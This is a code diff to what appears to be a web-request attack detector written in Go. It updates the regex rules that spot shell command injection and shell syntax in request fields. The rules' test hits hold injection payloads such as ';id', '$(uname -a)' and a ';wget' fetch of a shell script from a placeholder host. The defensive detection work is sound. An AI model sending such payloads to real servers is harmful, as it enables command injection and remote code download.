@@ -9,9 +9,10 @@ const (
 // Commands that texts seldom hold, and commands that are words too. Patterns put them after a separator
 // or before an argument.
 const (
-	rareCommands = `(?:wget|curl|bash|zsh|csh|ksh|tcsh|dash|busybox|ifconfig|netstat|whoami|uname|nslookup|chmod|chown|netcat|ncat|nc|python[23]?|perl|ruby|php|lua|gcc|telnet|tftp|ftpget|passwd|sudo|useradd|adduser|usermod|crontab|systemctl|printenv|getent|lsof|mkfifo|socat|xterm|nohup|base64|xxd|ping|traceroute|dig|hostname|tcpdump|iptables|mysqldump|ssh|scp|rsync|sed|awk|gawk|grep|egrep|xargs|uptime|ipconfig|systeminfo|tasklist|powershell|pwsh|iwr|cmd|certutil|bitsadmin|wmic|net1|reg|regedit|schtasks|cscript|wscript|mshta|rundll32|regsvr32|arp|dpkg|yum|apt|apt-get|aptitude|apk|pacman|docker|kubectl|openssl|gdb|strace|nmap|env|eval|phpinfo|pwd|ps|df|du|lsb_release|lscpu|killall|tac|cpio|unzip|gzip|rm|mv|cp|mkdir|rmdir|vi|vim|visudo|nano|od|rev|lsattr|chattr|md5sum|reboot|poweroff|npm|git|svn|cc|ldd|tty|stty|expr|chsh|chroot|ansible[a-z-]*|chef(?:-[a-z]+)?|ionice|setsid|unshare|capsh|flock|rpm|pip3?|easy_install|cargo|javac|mknod|lastlog|nft|id|ls|ll|cat|echo|printf|sh|perf|getcap|setcap|bcdboot|lsblk|bsdtar|rc)`
-	wordCommands = `(?:net|finger|node|java|make|time|timeout|date|who|w|more|less|head|tail|find|sort|uniq|cut|paste|sleep|dir|type|set|source|ver|vol|tree|ftp|mount|kill|diff|stat|touch|tar|ed|strings|yes|seq|tee|ln|dd|snap|gem|logger|last|ip|ss|route|nice|at|exec|export|history|aspell|shutdown|halt|nl)`
-	argument     = `(?:\s+(?:-{1,2}[a-z]|/[a-z?*\[]|\.{0,2}/|https?:|ftp:|\$|["'` + "`" + `]|\d+\.\d+\.\d|[a-z0-9_.-]+\.(?:sh|php|pl|py|exe|txt|bat|ps1|cmd|conf|log)\b|\*|[|;&>]))`
+	rareCommands  = `(?:wget|curl|bash|zsh|csh|ksh|tcsh|dash|busybox|ifconfig|netstat|whoami|uname|nslookup|chmod|chown|netcat|ncat|nc|python[23]?|perl|ruby|php|lua|gcc|telnet|tftp|ftpget|passwd|sudo|useradd|adduser|usermod|crontab|systemctl|printenv|getent|lsof|mkfifo|socat|xterm|nohup|base64|xxd|ping|traceroute|dig|hostname|tcpdump|iptables|mysqldump|ssh|scp|rsync|sed|awk|gawk|grep|egrep|xargs|uptime|ipconfig|systeminfo|tasklist|powershell|pwsh|iwr|cmd|certutil|bitsadmin|wmic|net1|reg|regedit|schtasks|cscript|wscript|mshta|rundll32|regsvr32|arp|dpkg|yum|apt|apt-get|aptitude|apk|pacman|docker|kubectl|openssl|gdb|strace|nmap|env|eval|phpinfo|pwd|ps|df|du|lsb_release|lscpu|killall|tac|cpio|unzip|gzip|rm|mv|cp|mkdir|rmdir|vi|vim|visudo|nano|od|rev|lsattr|chattr|md5sum|reboot|poweroff|npm|git|svn|cc|ldd|tty|stty|expr|chsh|chroot|ansible[a-z-]*|chef(?:-[a-z]+)?|ionice|setsid|unshare|capsh|flock|rpm|pip3?|easy_install|cargo|javac|mknod|lastlog|nft|id|ls|ll|cat|echo|printf|sh|perf|getcap|setcap|bcdboot|lsblk|bsdtar|rc)`
+	wordCommands  = `(?:sleep\s+\d+|net|finger|node|java|make|time|timeout|date|who|w|more|less|head|tail|find|sort|uniq|cut|paste|sleep|dir|type|set|source|ver|vol|tree|ftp|mount|kill|diff|stat|touch|tar|ed|strings|yes|seq|tee|ln|dd|snap|gem|logger|last|ip|ss|route|nice|at|exec|export|history|aspell|shutdown|halt|nl)`
+	commandPrefix = `\s*(?:[{(!]\s*)*(?:[a-z_]+=\S*\s+)?(?:[/.\w?*\[\]-]*/)?`
+	argument      = `(?:\s+(?:-{1,2}[a-z]|/[a-z?*\[]|\.{0,2}/|https?:|ftp:|\$|["'` + "`" + `]|\d+\.\d+\.\d|[a-z0-9_.-]+\.(?:sh|php|pl|py|exe|txt|bat|ps1|cmd|conf|log)\b|\*|[|;&>]))`
 )
 
 // commandLine is a command with options or paths.
@@ -27,10 +28,11 @@ var agentCommands = []string{"wget ", "curl ", "cat ", "chmod ", "bash ", "nc ",
 var commandRules = []Rule{
 	{
 		ID: "cmd-chained", Class: RCE, Level: High, Field: InQuery | InName | InPath | InReferer | InShell,
-		Words:   []string{";", "|", "&", "`", "$(", "\n", "<(", ">("},
-		Pattern: `(?:[;|` + "`" + `\n\r]|&&|&\s|\$\(|[<>]\(|&(?:amp;)?)\s*(?:[{(!]\s*)*(?:[a-z_]+=\S*\s+)?(?:[/.\w?*\[\]-]*/)?(?:` + rareCommands + `(?:\s*$|\s*[;|&` + "`" + `)#><"']|` + argument + `|\s+\(|\s+[\w.-]+\s*(?:$|[;|&` + "`" + `)]))|` + wordCommands + `(?:\s*$|\s*[;|&` + "`" + `)#><]|` + argument + `|\s+\())`,
-		Why:     "a shell command after a separator (; | & ` $( or a new line)",
-		Source:  sourceCommand,
+		Words: []string{";", "|", "&", "`", "$(", "\n", "<(", ">("},
+		Pattern: `(?:[;|` + "`" + `\n\r]|&&|&\s|\$\(|[<>]\(|&(?:amp;)?)` + commandPrefix + rareCommands + `(?:\s*$|\s*[;|&` + "`" + `)#><"']|` + argument + `|\s+\(|\s+[\w.-]+\s*(?:$|[;|&` + "`" + `)]))|` +
+			`(?:[;|` + "`" + `\n\r]|&&|\$\(|[<>]\(|&\b)` + commandPrefix + wordCommands + `(?:\s*$|\s*[;|&` + "`" + `)#><]|` + argument + `|\s+\()|&\s+` + wordCommands + argument,
+		Why:    "a shell command after a separator (; | & ` $( or a new line)",
+		Source: sourceCommand,
 		Hit: []string{
 			"GET /a?h=127.0.0.1;id", "GET /a?h=x|cat%20/etc/hostname", "GET /a?h=%60whoami%60", "GET /a?h=$(uname%20-a)", "GET /a?h=x%0aid",
 			"GET /a?h=x;wget+http://h.example/a.sh", "GET /a?h=x%26%26ls%20-la", "GET /a?h=;c''at$IFS/etc/hosts",
@@ -132,7 +134,7 @@ var commandRules = []Rule{
 	{
 		ID: "cmd-shell-syntax", Class: RCE, Level: Medium, Field: InAny,
 		Words:   []string{"ifs", "$(", "${", "2>", "$'", "{", "`", "<<<", "$((", "$@", "$*", "alias ", "$shell", "$[", ">(", "<("},
-		Pattern: `\$\{?ifs\b|\$\([^)]{1,200}\)|2>&1|\$'[^']{1,80}'|(?:^|[;|&=` + "`" + `\s])\{,?[a-z./?*_#-][^,{}\s"':]*(?:,[^,{}\s"':]*)+\}|` + "`[a-z/.][^`]{0,120}`" + `|<<<|\$\(\(|\balias\s+(?:[+-]\w\+?\s+)?\w+=|\$(?:shell|bash|home|path|pwd|user)\b|\$\[[\d+*/\s-]*\]|[<>]\([a-z]|\$\{[a-z_]{1,20}(?::|%|#|/|//|,,|\^)[^}]{1,40}\}|\$\{!?[a-z_@*]{1,12}\[?[@*]?`,
+		Pattern: `\$\{?ifs\b|\$\([^)]{1,200}\)|2>&1|\$'[^']{1,80}'|(?:^|[;|&=` + "`" + `\s])\{,?[a-z./?*_#-][^,{}\s"':]*(?:,[^,{}\s"':]*)+\}|` + "`[a-z/.][^`]{0,120}`" + `|<<<|\$\(\(|\balias\s+(?:[+-]\w\+?\s+)?\w+=|\$(?:shell|bash|home|path|pwd|user)\b|\$\[[\d+*/\s-]*\]|[<>]\([a-z]|\$\{[a-z_]{1,20}(?::|%|#|/|//|,,|\^)[^}]{1,40}\}|\$\{!?[a-z_@*]{1,12}[\[@*]`,
 		Why:     "syntax of a Unix shell (${IFS}, $(…), `…`, {a,b})",
 		Source:  sourceCommand,
 		Hit:     []string{"GET /a?x=a$%7bIFS%7db", "GET /a?x=$(x)", "GET /a?x=%7bid,-a%7d", "GET /a?x=%60x%60"},
